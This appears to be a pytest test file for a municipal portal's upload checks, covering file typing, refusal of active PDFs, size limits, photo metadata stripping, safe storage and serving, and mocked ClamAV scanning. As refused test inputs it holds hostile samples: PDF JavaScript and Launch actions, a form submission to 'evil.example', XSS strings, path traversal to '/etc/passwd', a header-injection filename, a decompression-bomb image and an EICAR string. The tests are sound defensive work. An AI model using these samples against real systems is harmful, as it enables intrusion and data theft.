"""Papers that citizens send, with real bytes: what is taken, what is refused, and what becomes of the rest."""

from __future__ import annotations

import hashlib
import socketserver
import struct
import zipfile
from io import BytesIO
from pathlib import Path
from threading import Thread

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from kmc_portal.common import pdf as pdf_of_ours
from kmc_portal.common import upload_checks, uploads
from kmc_portal.common.uploads import (
    Kind,
    PaperActive,
    PaperDamaged,
    PaperInfected,
    PaperLocked,
    PaperMissing,
    PaperTooLarge,
    PaperTooMany,
    PaperTypeRefused,
    PaperUnchecked,
    read_paper,
    read_papers,
    shown_name,
)
from kmc_portal.tests.papers_by_hand import packed_pdf, pdf, picture
from kmc_portal.tests.test_pdf import ENGLISH, NOON

MEGABYTE = 1024 * 1024
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.fixture(autouse=True)
def shelf(settings, tmp_path) -> Path:
    """The papers of one test."""
    papers = {**settings.STORAGES["papers"]}
    papers["OPTIONS"] = {**papers["OPTIONS"], "location": str(tmp_path / "papers")}
    settings.STORAGES = {**settings.STORAGES, "papers": papers}
    return tmp_path / "papers"


def sent(content: bytes, name: str = "paper.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def zipped() -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("paper.pdf", pdf())
    return written.getvalue()


# --- By content -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf(), Kind.PDF),
        (packed_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"), Kind.PDF),
        (picture("JPEG"), Kind.JPEG),
        (picture("JPEG", mode="CMYK"), Kind.JPEG),
        (picture("PNG"), Kind.PNG),
        (picture("PNG", mode="P"), Kind.PNG),
    ],
    ids=["pdf", "packed pdf", "jpeg", "jpeg in cmyk", "png", "png with a palette"],
)
def test_kind_is_told_by_the_content_whatever_the_name_says(content, kind):
    assert read_paper(sent(content, "photo.exe")).kind == kind


@pytest.mark.parametrize(
    "content",
    [
        zipped(),
        b"MZ\x90\0",
        b"<script>alert(1)</script>",
        b"<svg onload='alert(1)'/>",
        picture("GIF"),
        b" " + pdf(),
        b"",
        b"%PD",
    ],
    ids=["zip", "program", "page", "svg", "gif", "pdf behind a space", "nothing", "too short"],
)
def test_anything_else_named_pdf_is_refused(content):
    with pytest.raises(PaperTypeRefused):
        read_paper(sent(content, "paper.pdf"))


def test_receipt_of_ours_is_a_paper():
    receipt = pdf_of_ours.render("receipt", ENGLISH, language="en", timestamp=NOON)

    assert read_paper(sent(receipt)).kind == Kind.PDF


def test_links_and_places_in_a_pdf_are_no_program():
    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://kmcgov.in/) >> >>"

    assert read_paper(sent(pdf(link, catalogue=b"/OpenAction [3 0 R /Fit]"))).kind == Kind.PDF


@pytest.mark.parametrize(
    "content",
    [
        pdf(SCRIPT, catalogue=b"/OpenAction 4 0 R"),
        pdf(b"<< /S /J#61vaScript /J#53 (1) >>", catalogue=b"/OpenAction 4 0 R"),
        packed_pdf(SCRIPT),
        packed_pdf(b"<< /S /Launch /F (calc.exe) >>"),
        pdf(b"<< /S /L#61unch /F (calc.exe) >>"),
        pdf(catalogue=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
        pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
        pdf(b"[[<< /S /SubmitForm /F (https://evil.example/) >>]]"),
        pdf(catalogue=b"/AcroForm << /XFA [] >>"),
        pdf(catalogue=b"/AA << /O << /Next [<< /S /JavaScri#70t >>] >> >>"),
    ],
    ids=[
        "script", "script in disguise", "script packed", "launch packed", "launch in disguise", "files", "file", "media", "form",
        "xfa", "deep",
    ],
)  # fmt: skip
def test_pdf_that_acts_is_refused(content):
    with pytest.raises(PaperActive):
        read_paper(sent(content))


def test_pdf_with_a_script_that_a_library_wrote_is_refused():
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.add_open_action(JavaScript("app.alert(1)"))
    writer.write(written)

    with pytest.raises(PaperActive):
        read_paper(sent(written.getvalue()))


def test_pdf_with_a_file_in_it_is_refused():
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.add_attachment("a.exe", b"MZ")
    writer.write(written)

    with pytest.raises(PaperActive):
        read_paper(sent(written.getvalue()))


@pytest.mark.parametrize("password", ["", "secret"], ids=["of the owner alone", "to open it"])
def test_pdf_with_a_password_is_refused(password):
    writer, written = PdfWriter(), BytesIO()
    writer.add_blank_page(9, 9)
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    writer.write(written)

    with pytest.raises(PaperLocked):
        read_paper(sent(written.getvalue()))


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n",
        pdf()[:200],
        b"%PDF-1.7\n" + bytes(range(256)) * 20,
        pdf(b"[" * 5000),
        picture("JPEG")[:-200],
        picture("PNG")[:60],
        b"\xff\xd8\xff" + b"\0" * 500,
    ],
    ids=["head alone", "cut pdf", "noise", "endless nesting", "cut jpeg", "cut png", "no jpeg"],
)
def test_damaged_paper_is_refused(content):
    with pytest.raises(PaperDamaged):
        read_paper(sent(content))


def test_pdf_of_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(upload_checks, "MOST_OBJECTS", 3)

    with pytest.raises(PaperDamaged):
        read_paper(sent(pdf(b"<< >>")))


def test_small_file_that_claims_to_be_a_wall_is_refused():
    wall = picture("PNG", size=(6000, 6000), mode="1")
    assert len(wall) < 20_000

    with pytest.raises(PaperDamaged):
        read_paper(sent(wall))


def test_photo_loses_its_place_and_comment_and_what_hides_behind_it_and_stands_upright():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Camera of Rina"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (22.0, 34.0, 0.0)
    photo = picture("JPEG", exif=exif.tobytes(), comment=b"of Rina") + zipped()

    kept = read_paper(sent(photo)).content

    drawn = Image.open(BytesIO(kept))
    assert (drawn.size, dict(drawn.getexif()), drawn.info.get("comment")) == ((30, 40), {}, None)
    assert (b"Rina" in kept, b"PK\x03\x04" in kept) == (False, False)


# --- How much ---------------------------------------------------------------------------------------------------------


def test_paper_of_five_megabytes_is_taken_and_one_byte_more_is_not():
    filled = pdf() + b"%" * (5 * MEGABYTE - len(pdf()))

    assert read_paper(sent(filled)).kind == Kind.PDF
    with pytest.raises(PaperTooLarge):
        read_paper(sent(filled + b"%"))


@pytest.mark.parametrize("nothing", [None, ""])
def test_no_paper_is_missing(nothing):
    with pytest.raises(PaperMissing):
        read_paper(nothing)


def test_papers_are_counted():
    assert [paper.kind for paper in read_papers([sent(pdf()), sent(picture("PNG"))], at_most=2)] == [Kind.PDF, Kind.PNG]
    with pytest.raises(PaperTooMany):
        read_papers([sent(pdf())] * 3, at_most=2)
    with pytest.raises(PaperMissing):
        read_papers([], at_most=2)


# --- Over HTTP --------------------------------------------------------------------------------------------------------


class Endless:
    """A body that is made while it is read and counts what was read of it."""

    def __init__(self, head: bytes, size: int) -> None:
        self.head, self.size, self.read_bytes = head, size, 0

    def read(self, size: int) -> bytes:
        ends = min(self.read_bytes + size, self.size)
        part = self.head[self.read_bytes : ends].ljust(ends - self.read_bytes, b"x")
        self.read_bytes = ends
        return part if ends < self.size else part[: -len(TAIL)] + TAIL

    def readline(self, size: int) -> bytes:
        raise AssertionError("a body is read in parts")


TAIL = b"\r\n--b--\r\n"
HEAD = b'--b\r\nContent-Disposition: form-data; name="identity"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-'


def post_endless(client, size: int, path: str = "/desk/"):
    body = Endless(HEAD, size)
    answer = client.generic(
        "POST",
        path,
        **{"wsgi.input": body, "CONTENT_LENGTH": str(size), "CONTENT_TYPE": "multipart/form-data; boundary=b"},
    )
    return answer, body


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_two_hundred_megabytes_are_refused_unread(client):
    answer, body = post_endless(client, 200 * MEGABYTE, "/en/desk/")

    assert (answer.status_code, body.read_bytes) == (413, 0)
    assert "A paper has at most 5 MB" in answer.text


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_program_gets_the_refusal_as_a_problem(client):
    answer, body = post_endless(client, 200 * MEGABYTE, "/api/v1/nothing/")

    assert (answer.status_code, answer.json()["code"], body.read_bytes) == (413, "paper_too_large", 0)


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_twelve_megabytes_are_refused_beside_the_field_and_kept_nowhere(client, shelf, settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)

    answer, body = post_endless(client, 12 * MEGABYTE)

    assert (answer.status_code, answer.json()["code"]) == (422, "paper_too_large")
    assert (shelf.exists(), list(tmp_path.iterdir())) == (False, [])


def test_disk_never_holds_more_than_a_paper(settings, tmp_path, monkeypatch):
    """While twelve megabytes come in, the temporary file ends at five."""
    written = 0
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    body = Endless(HEAD, 12 * MEGABYTE)
    plain = body.read

    def read(size: int) -> bytes:
        nonlocal written
        written = max([written, *(path.stat().st_size for path in tmp_path.iterdir())])
        return plain(size)

    monkeypatch.setattr(body, "read", read)
    request = RequestFactory().generic(
        "POST",
        "/",
        **{
            "wsgi.input": body,
            "CONTENT_LENGTH": str(12 * MEGABYTE),
            "CONTENT_TYPE": "multipart/form-data; boundary=b",
        },
    )

    [cut] = request.FILES.getlist("identity")

    assert (cut.size > 11 * MEGABYTE, cut.read()) == (True, b"")
    assert 4 * MEGABYTE < written <= 5 * MEGABYTE


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_kept_paper_has_a_name_of_ours_and_is_for_the_portal_alone(client, shelf):
    script = "../../<script>alert(1)</script>\u202efdp.exe"
    answer = client.post("/desk/", {"identity": sent(pdf(), script)}).json()

    kept = shelf / answer["name"]
    assert (kept.read_bytes(), kept.stat().st_mode & 0o777, kept.parent.stat().st_mode & 0o777) == (pdf(), 0o600, 0o700)
    assert (kept.suffix, len(kept.stem), answer["kind"]) == (".pdf", 40, "pdf")
    assert "script" not in answer["name"]
    assert answer["shown"] == "script>fdp.exe"


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_paper_is_handed_out_to_be_saved_and_only_to_who_may_see_it(client):
    name = client.post("/desk/", {"identity": sent(pdf())}).json()["name"]

    answer = client.get(f"/desk/{name}?word=open")

    assert b"".join(answer.streaming_content) == pdf()
    assert answer.headers["Content-Disposition"] == 'attachment; filename="identity.pdf"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in answer.headers["Cache-Control"]
    assert client.get(f"/desk/{name}").status_code == 404


@pytest.mark.urls("kmc_portal.tests.upload_desk")
def test_address_that_climbs_out_of_the_shelf_leads_nowhere(client):
    for name in ("../../etc/passwd.pdf", "00/nobody.pdf", "%2e%2e/%2e%2e/manage.pdf"):
        assert client.get(f"/desk/{name}?word=open").status_code in (400, 404)


def test_no_address_of_the_portal_leads_to_the_shelf(client, shelf, db):
    name = uploads.keep_paper(read_paper(sent(pdf()))).stored_as

    for path in (f"/papers/{name}", f"/media/{name}", f"/static/{name}", f"/{name}", f"/var/papers/{name}"):
        assert client.get(path).status_code == 404


def test_what_is_written_down_of_a_paper_proves_it(shelf):
    kept = uploads.keep_paper(read_paper(sent(pdf(), "card.pdf")))

    assert (kept.shown_name, kept.content_type, kept.size) == ("card.pdf", "application/pdf", len(pdf()))
    assert kept.sha256 == hashlib.sha256((shelf / kept.stored_as).read_bytes()).hexdigest()


def test_forgotten_paper_is_gone_and_may_be_forgotten_again(shelf):
    name = uploads.keep_paper(read_paper(sent(pdf()))).stored_as
    with uploads.open_paper(name) as paper:
        assert paper.read() == pdf()

    uploads.forget_paper(name)
    uploads.forget_paper(name)

    with pytest.raises(FileNotFoundError):
        uploads.open_paper(name)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("voter card.pdf", "voter card.pdf"),
        ("C:\\Users\\Rina\\card.pdf", "card.pdf"),
        ("a" * 100 + ".pdf", "a" * 30 + "…" + "aaaaa.pdf"),
        ("ভোটার কার্ড.pdf", "ভোটার কার্ড.pdf"),
        ("a\r\nSet-Cookie: b.pdf", "aSet-Cookie: b.pdf"),
        ("", ""),
    ],
)
def test_shown_name_is_short_and_seen_whole(name, shown):
    assert shown_name(name) == shown


# --- ClamAV -----------------------------------------------------------------------------------------------------------

VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR"


class Clamd(socketserver.BaseRequestHandler):
    """Speaks INSTREAM as clamd does, by its manual: command, parts with their length, an empty one, the verdict."""

    def handle(self) -> None:
        if self._exactly(10) != b"zINSTREAM\0":
            self.request.sendall(b"UNKNOWN COMMAND\0")
            return
        content = b""
        while size := struct.unpack("!L", self._exactly(4))[0]:
            content += self._exactly(size)
        if len(content) > 2 * MEGABYTE:
            self.request.sendall(b"INSTREAM size limit exceeded. ERROR\0")
        else:
            self.request.sendall(b"stream: Eicar-Signature FOUND\0" if VIRUS in content else b"stream: OK\0")

    def _exactly(self, size: int) -> bytes:
        read = b""
        while len(read) < size and (part := self.request.recv(size - len(read))):
            read += part
        return read


@pytest.fixture
def clamd(settings):
    settings.UPLOAD_CHECKER = "kmc_portal.common.upload_scan.with_clamd"
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Clamd) as server:
        server.daemon_threads = True
        settings.CLAMD_ADDRESS = f"127.0.0.1:{server.server_address[1]}"
        Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


def test_clean_paper_passes_the_scanner(clamd):
    assert read_paper(sent(pdf() + b"%" * MEGABYTE)).kind == Kind.PDF


def test_infected_paper_is_refused(clamd):
    with pytest.raises(PaperInfected):
        read_paper(sent(pdf(b"(" + VIRUS + b")")))


def test_scanner_sees_the_photo_as_it_came(clamd):
    with pytest.raises(PaperInfected):
        read_paper(sent(picture("JPEG") + VIRUS))


def test_scanner_is_asked_about_papers_only(clamd):
    with pytest.raises(PaperTypeRefused):
        read_paper(sent(VIRUS))


def test_paper_that_the_scanner_would_not_look_at_is_not_taken(clamd):
    with pytest.raises(PaperUnchecked):
        read_paper(sent(pdf() + b"%" * (3 * MEGABYTE)))


@pytest.mark.parametrize("address", ["127.0.0.1:1", "/nowhere/clamd.sock"])
def test_paper_is_refused_while_the_scanner_is_away(settings, address):
    settings.UPLOAD_CHECKER = "kmc_portal.common.upload_scan.with_clamd"
    settings.CLAMD_ADDRESS = address

    with pytest.raises(PaperUnchecked):
        read_paper(sent(pdf()))


def test_scanner_over_a_socket_file(settings, tmp_path):
    settings.UPLOAD_CHECKER = "kmc_portal.common.upload_scan.with_clamd"
    settings.CLAMD_ADDRESS = str(tmp_path / "clamd.sock")
    with socketserver.ThreadingUnixStreamServer(settings.CLAMD_ADDRESS, Clamd) as server:
        Thread(target=server.serve_forever, daemon=True).start()

        with pytest.raises(PaperInfected):
            read_paper(sent(pdf(b"(" + VIRUS + b")")))
        server.shutdown()
